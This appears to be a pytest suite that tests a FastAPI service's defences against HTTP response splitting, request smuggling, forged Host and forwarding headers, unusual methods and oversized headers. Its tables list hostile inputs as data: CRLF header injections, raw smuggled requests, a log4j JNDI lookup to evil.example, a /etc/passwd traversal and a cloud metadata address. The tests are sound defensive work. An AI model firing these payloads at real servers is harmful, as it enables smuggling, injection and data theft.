"""Headers that are not what they seem: splitting, smuggling, and names the service does not have.

Two parsers stand in front of apps under uvicorn, and they let different things through. What they
refuse, they refuse themselves, in plain text; so the rule for what comes back is: no failure of the
server, and the status line, the headers and the number of answers are the service's own.
"""

import json
import re
from collections.abc import Iterator
from typing import Any

import pytest
from fastapi import FastAPI, Header, Request
from fastapi.responses import FileResponse, JSONResponse, RedirectResponse, Response

from backstay.pattern import base_pattern
from backstay.web import HTTPException401, HTTPException404
from tests.attacks.wire import Server, Wire, assert_problem, on_the_wire, request

SERVERS: list[Server] = ["httptools", "h11"]
SPLIT = "a\r\nX-Evil: 1\r\n\r\n<script>"


def make_app() -> FastAPI:
    app = FastAPI()

    @app.get("/ok")
    async def ok() -> str:
        return "fine"

    @app.get("/films/")
    async def films() -> str:
        return "films"

    @app.post("/count")
    async def count(request: Request) -> int:
        return len(await request.body())

    @app.get("/missing/{what:path}")
    async def missing(what: str) -> None:
        raise HTTPException404(f"There is no {what}.", headers={"X-Missing": what})

    @app.get("/challenge")
    async def challenge(realm: str) -> None:
        raise HTTPException401(headers={"WWW-Authenticate": f'Basic realm="{realm}"'})

    @app.get("/go")
    async def go(to: str) -> Response:
        return RedirectResponse(to)

    @app.get("/download")
    async def download(name: str) -> Response:
        return FileResponse(__file__, filename=name)

    @app.get("/header")
    async def header(x_own: str = Header("")) -> Response:
        return JSONResponse(x_own)

    @app.get("/link")
    async def link(request: Request) -> str:
        return str(request.url_for("ok"))

    base_pattern(app, allowed_hosts=["shop.example", "localhost", "[::1]"])
    return app


@pytest.fixture(scope="module", params=SERVERS)
def wire(request: pytest.FixtureRequest) -> Iterator[Wire]:
    with on_the_wire(make_app(), server=request.param) as wire:
        yield wire


def answers_in(said: bytes) -> list[int]:
    """The statuses of all answers in what a service has said."""
    return [int(each) for each in re.findall(rb"HTTP/1\.1 ([0-9]{3}) ", said)]


def encoded(text: str) -> str:
    return "".join(f"%{byte:02x}" for byte in text.encode())


# ---------------------------------------------------------------------- response splitting

LINE_BREAKS = {
    "CR LF": "\r\n",
    "LF": "\n",
    "CR": "\r",
    "NUL": "\0",
    "vertical tab": "\x0b",
    "form feed": "\x0c",
    "next line": "\x85",
    "line separator": "\u2028",
    "a letter whose last byte is LF": "\u560a",
    "a letter whose last byte is CR": "\u560d",
    "escape": "\x1b[2J",
    "DEL": "\x7f",
}
ECHOES = {
    "a path in a problem and a header": "/missing/a{}X-Evil:%201",
    "a query parameter in a challenge": "/challenge?realm=a{}X-Evil:%201",
    "a path that is no route": "/none/a{}X-Evil:%201",
    "a path that is redirected": "/films{}X-Evil:%201/",
    "a file's name": "/download?name=a{}X-Evil:%201",
    "a redirection": "/go?to=/a{}X-Evil:%201",
}


@pytest.mark.parametrize("text", LINE_BREAKS.values(), ids=LINE_BREAKS)
@pytest.mark.parametrize("target", ECHOES.values(), ids=ECHOES)
def test_what_is_echoed_begins_no_line_of_its_own(wire: Wire, target: str, text: str) -> None:
    # The server ends the connection afterwards, so that nothing behind the answer is missed.
    said = wire.everything(
        request("GET", target.format(encoded(text)), {"Connection": "close"}, host="shop.example")
    )
    (status,) = answers_in(said)
    assert status < 500, said
    head = said.split(b"\r\n\r\n")[0]
    names = [line.split(b":")[0].lower() for line in head.replace(b"\r", b"\n").split(b"\n")]
    assert b"x-evil" not in names
    assert not {0, 0x0B, 0x0C, 0x1B, 0x7F} & set(head)
    wire.assert_well()


CORRELATION_IDS = {
    "a space": "a b",
    "a tab": "a\tb",
    "an encoded line break": "a%0d%0aX-Evil: 1",
    "a script": "<script>alert(1)</script>",
    "quotation marks": 'a"b',
    "Latin-1": "caf\xe9",
    "UTF-8 as Latin-1": "caf\xc3\xa9",
    "a semicolon": "a;b",
    "a comma": "a,b",
    "a backslash": "a\\nb",
    "a dollar and braces, as log4j reads them": "${jndi:ldap://evil.example/a}",
    "a percent sign, as formats have it": "%s%s%s%n",
    "a slash at the beginning": "/../../etc/passwd",
    "a dot at the beginning": ".hidden",
    "129 characters": "a" * 129,
    "30 KB": "a" * 30_000,
    "nothing": "",
}


@pytest.mark.parametrize("value", CORRELATION_IDS.values(), ids=CORRELATION_IDS)
def test_a_correlation_id_that_is_none_is_replaced(wire: Wire, value: str) -> None:
    for target in ("/ok", "/none"):
        answer = wire.call("GET", target, {"X-Request-ID": value}, host="shop.example")
        own = answer.get("x-request-id")
        assert own is not None
        assert own != value
        assert len(own) == 32
        assert answer.status == 404 or answer.json() == "fine"


def test_of_several_correlation_ids_one_is_answered(wire: Wire) -> None:
    headers = [("X-Request-ID", "first"), ("X-Request-ID", "second"), ("x-request-id", "third")]
    assert wire.call("GET", "/ok", headers, host="shop.example").all("x-request-id") == ["first"]


TRACEPARENTS = {
    "of the right form": f"00-{'a' * 32}-{'b' * 16}-01",
    "all zeros": f"00-{'0' * 32}-{'0' * 16}-00",
    "of a version that is none": f"ff-{'a' * 32}-{'b' * 16}-01",
    "capitals": f"00-{'A' * 32}-{'B' * 16}-01",
    "a line break that is encoded": "00-%0d%0a",
    "letters": "x" * 55,
    "30 KB": "0" * 30_000,
    "Latin-1": "00-\xe9",
    "nothing": "",
}


@pytest.mark.parametrize("value", TRACEPARENTS.values(), ids=TRACEPARENTS)
def test_a_traceparent_changes_no_answer(wire: Wire, value: str) -> None:
    headers = {"traceparent": value, "tracestate": value, "baggage": value}
    answer = wire.call("GET", "/ok", headers, host="shop.example")
    assert (answer.status, answer.body) == (200, b'"fine"')
    assert all(value not in said for _, said in answer.headers if value)


# ---------------------------------------------------------------------- one request, or two

CHUNKED = b"POST /count HTTP/1.1\r\nHost: shop.example\r\nTransfer-Encoding: chunked\r\n"
SECOND = b"GET /missing/second HTTP/1.1\r\nHost: shop.example\r\nConnection: close\r\n\r\n"
POST = b"POST /count HTTP/1.1\r\nHost: shop.example\r\n"
GET = b"GET /ok HTTP/1.1\r\nHost: shop.example\r\n"


SMUGGLED = {
    "a length and chunks": CHUNKED + b"Content-Length: 6\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks and a longer length": CHUNKED + b"Content-Length: 600\r\n\r\n0\r\n\r\n" + SECOND,
    "a length before chunks": POST
    + b"Content-Length: 4\r\nTransfer-Encoding: chunked\r\n\r\n0\r\n\r\n"
    + SECOND,
    "two lengths": POST + b"Content-Length: 0\r\nContent-Length: 70\r\n\r\n" + SECOND,
    "two lengths, the longer first": POST
    + b"Content-Length: 70\r\nContent-Length: 0\r\n\r\n"
    + SECOND,
    "a list of lengths": POST + b"Content-Length: 0, 70\r\n\r\n" + SECOND,
    "a length with a sign": POST + b"Content-Length: +0\r\n\r\n" + SECOND,
    "a negative length": POST + b"Content-Length: -1\r\n\r\n" + SECOND,
    "a hexadecimal length": POST + b"Content-Length: 0x0\r\n\r\n" + SECOND,
    "a length with an underscore": POST + b"Content-Length: 0_0\r\n\r\n" + SECOND,
    "a length with a fraction": POST + b"Content-Length: 0.0\r\n\r\n" + SECOND,
    "a length of 30 digits": POST + b"Content-Length: " + b"9" * 30 + b"\r\n\r\n" + SECOND,
    "a length with a space before the colon": POST + b"Content-Length : 70\r\n\r\n" + SECOND,
    "an encoding with a space before the colon": POST
    + b"Transfer-Encoding : chunked\r\n\r\n0\r\n\r\n"
    + SECOND,
    "an encoding nobody knows": POST + b"Transfer-Encoding: xchunked\r\n\r\n0\r\n\r\n" + SECOND,
    "chunks that are not last": POST
    + b"Transfer-Encoding: chunked, identity\r\n\r\n0\r\n\r\n"
    + SECOND,
    "chunks twice": POST + b"Transfer-Encoding: chunked, chunked\r\n\r\n0\r\n\r\n" + SECOND,
    "two encodings": CHUNKED + b"Transfer-Encoding: identity\r\n\r\n0\r\n\r\n" + SECOND,
    "an encoding with a vertical tab": POST
    + b"Transfer-Encoding: \x0bchunked\r\n\r\n0\r\n\r\n"
    + SECOND,
    "a chunk's size with 0x": CHUNKED + b"\r\n0x0\r\n\r\n" + SECOND,
    "a chunk's negative size": CHUNKED + b"\r\n-1\r\n\r\n" + SECOND,
    "a chunk's size with a space": CHUNKED + b"\r\n 0\r\n\r\n" + SECOND,
    "a chunk that is longer than it says": CHUNKED + b"\r\n1\r\nab\r\n0\r\n\r\n" + SECOND,
    "a name with a space": GET + b"X Y: 1\r\n\r\n" + SECOND,
    "no name": GET + b": 1\r\n\r\n" + SECOND,
    "no colon": GET + b"nonsense\r\n\r\n" + SECOND,
    "a NUL": GET + b"X: a\0b\r\n\r\n" + SECOND,
    "a CR by itself": GET + b"X: a\rTransfer-Encoding: chunked\r\n\r\n" + SECOND,
    "a name of other letters": GET + b"X\xe9: 1\r\n\r\n" + SECOND,
    "a version that is none": b"GET /ok HTTP/1.1x\r\nHost: shop.example\r\n\r\n" + SECOND,
    "a version of letters": b"GET /ok HTTP/x.y\r\nHost: shop.example\r\n\r\n" + SECOND,
    "a tab in the target": b"GET /o\tk HTTP/1.1\r\nHost: shop.example\r\n\r\n" + SECOND,
    "a space in the target": b"GET /o k HTTP/1.1\r\nHost: shop.example\r\n\r\n" + SECOND,
    "other letters in the target": b"GET /\xe9 HTTP/1.1\r\nHost: shop.example\r\n\r\n" + SECOND,
}


@pytest.mark.parametrize("name", SMUGGLED)
def test_what_is_said_in_two_ways_is_not_read_in_both(wire: Wire, name: str) -> None:
    said = wire.everything(SMUGGLED[name])
    # One refusal, and the connection closed: what came behind was read by nobody.
    assert answers_in(said) == [400], said
    assert b"There is no second" not in said
    wire.assert_well()


@pytest.mark.parametrize("server", SERVERS)
def test_a_folded_line_is_refused_or_part_of_the_one_before(server: Server) -> None:
    with on_the_wire(make_app(), server=server) as wire:
        said = wire.everything(
            b"GET /header HTTP/1.1\r\nHost: shop.example\r\nX-Own: a\r\n X-Evil: b\r\n"
            b"Connection: close\r\n\r\n"
        )
        (status,) = answers_in(said)
        assert status == 400 or b'"a X-Evil: b"' in said


def test_two_requests_in_a_row_are_answered_in_order(wire: Wire) -> None:
    said = wire.everything(POST + b"Content-Length: 3\r\n\r\nabc" + SECOND)
    assert answers_in(said) == [200, 404]
    assert said.index(b"\r\n\r\n3") < said.index(b"There is no second")


@pytest.mark.parametrize("protocol", ["h2c", "websocket", "TLS/1.3", "evil/1"])
def test_what_comes_behind_an_upgrade_is_no_request(wire: Wire, protocol: str) -> None:
    with wire.line() as line:
        line.send(
            b"POST /count HTTP/1.1\r\nHost: shop.example\r\nConnection: Upgrade, HTTP2-Settings\r\n"
            b"Upgrade: " + protocol.encode() + b"\r\nHTTP2-Settings: AAMAAABkAARAAAAAAAIAAAAA\r\n"
            b"Content-Length: 5\r\n\r\nabcde"
        )
        answer = line.answer()
        assert answer.status < 500
        assert answer.status != 101
    wire.assert_well()


# ---------------------------------------------------------------------- names of other hosts

BAD_HOSTS = {
    "another's": "evil.example",
    "its name below another's": "shop.example.evil.example",
    "a name below it": "www.shop.example",
    "its name at the end of another's": "evilshop.example",
    "its name as a user": "shop.example@evil.example",
    "another's as a user": "evil.example@shop.example",
    "a path": "shop.example/evil",
    "a query": "shop.example?evil",
    "a fragment": "shop.example#evil",
    "a backslash": "shop.example\\evil",
    "a port that is none": "shop.example:evil",
    "a port of six digits": "shop.example:123456",
    "two ports": "shop.example:80:80",
    "a negative port": "shop.example:-1",
    "a space": "shop.example evil.example",
    "a tab": "shop.example\tevil.example",
    "a comma": "shop.example, evil.example",
    "a dot at the end": "shop.example.",
    "a dot at the beginning": ".shop.example",
    "an encoded NUL": "shop.example%00",
    "half of an IPv6 address": "[::1",
    "an IPv6 address with a zone": "[::1%25eth0]",
    "an IPv6 address with more behind it": "[::1]evil.example",
    "an address of this machine": "127.0.0.1",
    "an address of this machine as a number": "2130706433",
    "the address of a cloud's metadata": "169.254.169.254",
    "Latin-1": "sh\xf6p.example",
    "full width letters": "\xef\xbd\x93hop.example",
    "nothing": "",
    "the star": "*",
    "30 KB": "a" * 30_000,
    "a scheme": "http://shop.example",
}


@pytest.mark.parametrize("host", BAD_HOSTS.values(), ids=BAD_HOSTS)
def test_another_host_is_refused_and_makes_no_links(wire: Wire, host: str) -> None:
    for target in ("/ok", "/films", "/link", "/none"):
        answer = wire.call("GET", target, host=host)
        assert_problem(answer, 400)
        assert answer.get("location") is None
        assert len(host) < 5 or host not in answer.body.decode()
    wire.assert_well()


@pytest.mark.parametrize(
    "headers",
    [
        {"X-Forwarded-Host": "evil.example"},
        {"X-Host": "evil.example"},
        {"X-Forwarded-Server": "evil.example"},
        {"X-HTTP-Host-Override": "evil.example"},
        {"Forwarded": "host=evil.example;proto=https"},
        {"X-Original-Host": "evil.example"},
        {"X-Forwarded-Proto": "https"},
        {"X-Forwarded-Scheme": "https"},
        {"X-Forwarded-Port": "6666"},
        {"X-Forwarded-Prefix": "/evil"},
        {"X-Original-URL": "/evil"},
        {"X-Rewrite-URL": "/evil"},
        {"X-Script-Name": "/evil"},
        {"Front-End-Https": "on"},
    ],
    ids=lambda headers: next(iter(headers)),
)
def test_what_proxies_say_of_the_host_makes_no_links(wire: Wire, headers: dict[str, str]) -> None:
    answer = wire.call("GET", "/films", headers, host="shop.example")
    assert (answer.status, answer.get("location")) == (307, "http://shop.example/films/")
    assert wire.call("GET", "/link", headers, host="shop.example").json() == (
        "http://shop.example/ok"
    )


@pytest.mark.parametrize(
    "hosts",
    [[], ["shop.example", "evil.example"], ["evil.example", "shop.example"], ["shop.example"] * 2],
    ids=["none", "the right one first", "the right one last", "the right one twice"],
)
def test_a_request_has_one_host(wire: Wire, hosts: list[str]) -> None:
    raw = request("GET", "/ok", [("Host", each) for each in hosts], host=None)
    with wire.line() as line:
        line.send(raw)
        assert line.answer().status == 400
    wire.assert_well()


def test_probes_are_answered_by_any_name_and_nothing_else_is(wire: Wire) -> None:
    assert wire.call("GET", "/livez", host="10.0.0.7").status == 200
    for target in ("/livez/", "/livez/..", "//livez", "/livez;/ok", "/Livez", "/healthcheck"):
        assert wire.call("GET", target, host="10.0.0.7").status in (400, 404)


# ---------------------------------------------------------------------- methods and sizes

METHODS = {
    "in lower case": "get",
    "of its own": "BREW",
    "with a line break that is encoded": "GET%0d%0a",
    "of 5 KB": "A" * 5000,
    "in quotation marks": '"GET"',
    "an at sign": "G@T",
    "other letters": "G\xc9T",
    "the preface of HTTP/2": "PRI",
    "TRACE": "TRACE",
    "TRACK": "TRACK",
    "DEBUG": "DEBUG",
    "PURGE": "PURGE",
    "PROPFIND": "PROPFIND",
}


@pytest.mark.parametrize("method", METHODS.values(), ids=METHODS)
def test_a_method_that_is_none_runs_nothing(wire: Wire, method: str) -> None:
    headers = {"Cookie": "session=secret", "X-Secret": "canary"}
    answer = wire.call(method, "/ok", headers, host="shop.example")
    assert answer.status in (400, 405)
    if answer.status == 405:
        assert_problem(answer, 405)
        assert answer.get("allow") == "GET"
    # TRACE would send back what the browser keeps from pages (RFC 9110 §9.3.8).
    assert b"canary" not in answer.body
    wire.assert_well()


@pytest.mark.parametrize("name", ["X-HTTP-Method-Override", "X-HTTP-Method", "X-Method-Override"])
def test_the_method_is_the_one_of_the_request_line(wire: Wire, name: str) -> None:
    answer = wire.call("GET", "/count?_method=POST", {name: "POST"}, host="shop.example")
    assert_problem(answer, 405)


@pytest.mark.parametrize(
    "headers",
    [
        [("X-Large", "a" * 60_000)],
        [("Cookie", "a=b; " * 10_000)],
        [("X", "a")] * 5_000,
        [(f"X-{number}", "a") for number in range(2_000)],
        [("X-" + "a" * 60_000, "a")],
        [("Accept-Language", ",".join(f"x{number}" for number in range(9_000)))],
        [("Accept", "*/*," * 12_000)],
        [("Authorization", "Bearer " + "a" * 60_000)],
        [("Range", "bytes=" + ",".join(f"{n}-{n}" for n in range(5_000)))],
        [("If-None-Match", '"a",' * 12_000)],
        [("X-Request-ID", "a" * 60_000)],
        [("Host", "a" * 60_000)],
    ],
    ids=[
        *("one large", "a large cookie", "5000 of one name", "2000 names", "a large name"),
        *("9000 languages", "12000 types", "a large token", "5000 ranges", "12000 tags"),
        *("a large id", "a second host that is large"),
    ],
)
@pytest.mark.parametrize("target", ["/ok", "/none", "/download?name=a"])
def test_many_or_large_headers_are_no_failure(
    wire: Wire, target: str, headers: list[tuple[str, str]]
) -> None:
    answer = wire.call("GET", target, headers, host="shop.example")
    assert answer.status < 500
    if answer.status >= 400 and answer.get("content-type") == "application/problem+json":
        problem = json.loads(answer.body)
        assert len(json.dumps(problem)) < 2_000, "nothing large is repeated"
    wire.assert_well()


def test_an_answer_names_no_version_of_what_serves_it(wire: Wire) -> None:
    for target in ("/ok", "/none", "/openapi.json", "/livez"):
        answer = wire.call("GET", target, host="shop.example")
        said: dict[str, Any] = dict(answer.headers)
        assert said.get("server", "uvicorn") == "uvicorn"
        assert not {"x-powered-by", "x-runtime", "via", "x-aspnet-version"} & said.keys()
        assert not {"x-process-time", "server-timing"} & said.keys()
